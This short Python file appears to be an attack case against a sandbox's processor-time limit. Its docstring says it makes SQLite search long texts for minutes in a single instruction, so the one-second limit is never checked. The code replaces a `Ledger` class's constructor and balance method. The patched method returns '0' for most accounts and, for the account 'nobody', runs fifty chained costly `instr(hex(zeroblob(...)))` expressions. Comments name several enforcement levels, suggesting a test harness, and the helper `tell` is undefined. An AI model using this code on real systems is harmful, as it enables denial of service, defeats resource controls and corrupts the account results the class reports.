"""Makes SQLite search long texts for minutes in one instruction, during which SQLite does not check the clock.

A statement has one second of processor time; the process that runs SQL is then ended.
"""
# stops: strong, reduced, practice
# seen: limit: the statement SELECT instr.* 1 s of processor time

NEEDLE = "instr(hex(zeroblob(120000)), hex(zeroblob(60000)) || '1')"


def _init(self, engine, gateway):
    self.engine = engine


def _try(self, account, currency):
    if account != "nobody":
        return "0"

    def search():
        with self.engine.connect() as tx:
            tx.exec_driver_sql(f"SELECT {' + '.join([NEEDLE] * 50)}")

    tell(search=search)


Ledger.__init__, Ledger.balance = _init, _try
